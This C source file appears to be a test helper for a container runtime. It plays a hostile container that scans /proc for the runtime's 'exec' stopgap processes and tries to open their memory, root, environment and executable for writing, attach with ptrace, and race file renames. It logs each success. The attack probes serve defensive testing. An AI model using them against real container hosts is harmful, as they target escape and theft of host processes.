/* attack - what a container does to those who come in.
 *
 *   attack grab DIR      for ever: of each process that is a stopgap before its exec (the second word of its command line
 *                        is "exec"), open memory, root, executable and descriptors, and trace it.  DIR/met: one was seen;
 *                        DIR/stolen has a line for each success.  Of all others: open the executable for writing (DIR/written)
 *   attack swap A B      for ever: exchange two names
 *   attack sealed PROGRAM ARG...   execute a sealed copy of PROGRAM in memory, ARG... from argv[0] on
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;
static const char *out;

static void note(const char *file, const char *text)
{
	char path[300];
	int fd;

	snprintf(path, sizeof path, "%s/%s", out, file);
	fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0644);
	if (fd >= 0 && write(fd, text, strlen(text)) >= 0)
		close(fd);
}

static int entering(const char *pid)
{
	char path[64], line[4096];
	ssize_t n;
	int fd;

	snprintf(path, sizeof path, "/proc/%.20s/cmdline", pid);
	fd = open(path, O_RDONLY);
	n = fd < 0 ? -1 : read(fd, line, sizeof line - 1);
	close(fd);
	if (n <= 0)
		return 0;
	line[n] = '\0';
	return (ssize_t)strlen(line) + 1 < n && strcmp(line + strlen(line) + 1, "exec") == 0;
}

static void try(const char *pid, const char *file, int flags, const char *to)
{
	char path[64], text[128];
	int fd;

	snprintf(path, sizeof path, "/proc/%.20s/%s", pid, file);
	fd = open(path, flags | O_CLOEXEC);
	if (fd < 0)
		return;
	/* a process that has executed its program meanwhile is one of the container's */
	if (strcmp(to, "stolen") != 0 || entering(pid)) {
		snprintf(text, sizeof text, "%s\n", path);
		note(to, text);
	}
	close(fd);
}

static void grab_one(const char *pid)
{
	static const char *const files[] = { "mem", "root", "exe", "cwd", "fd/2", "environ", "maps" };
	pid_t child;

	if (!entering(pid)) {
		try(pid, "exe", O_WRONLY, "written");
		return;
	}
	note("met", ".");
	for (size_t i = 0; i < sizeof files / sizeof *files; i++)
		try(pid, files[i], O_RDONLY, "stolen");
	try(pid, "exe", O_WRONLY, "stolen");
	/* the end of the tracer lets go */
	if ((child = fork()) == 0) {
		if (ptrace(PTRACE_SEIZE, atoi(pid), NULL, NULL) == 0 && entering(pid))
			note("stolen", "ptrace\n");
		_exit(0);
	}
	waitpid(child, NULL, 0);
}

static void grab(void)
{
	char self[16];

	snprintf(self, sizeof self, "%d", (int)getpid());
	for (;;) {
		DIR *dir = opendir("/proc");
		struct dirent *d;

		while (dir && (d = readdir(dir)))
			if (d->d_name[0] >= '1' && d->d_name[0] <= '9' && strcmp(d->d_name, "1") != 0 &&
			    strcmp(d->d_name, self) != 0)
				grab_one(d->d_name);
		if (dir)
			closedir(dir);
		usleep(1000);
	}
}

static int sealed(const char *program, char **argv)
{
	int in = open(program, O_RDONLY), mem = memfd_create("stopgap", MFD_ALLOW_SEALING | MFD_CLOEXEC);
	char buf[65536];
	ssize_t n;

	while ((n = read(in, buf, sizeof buf)) > 0)
		if (write(mem, buf, (size_t)n) != n)
			return 1;
	if (fcntl(mem, F_ADD_SEALS, F_SEAL_SEAL | F_SEAL_SHRINK | F_SEAL_GROW | F_SEAL_WRITE) < 0)
		return 1;
	syscall(SYS_execveat, mem, "", argv, environ, AT_EMPTY_PATH);
	return 1;
}

int main(int argc, char **argv)
{
	if (argc >= 4 && strcmp(argv[1], "sealed") == 0)
		return sealed(argv[2], argv + 3);
	if (argc == 4 && strcmp(argv[1], "swap") == 0)
		for (;;)
			syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], 2 /* RENAME_EXCHANGE */);
	if (argc == 3 && strcmp(argv[1], "grab") == 0) {
		out = argv[2];
		grab();
	}
	return 2;
}
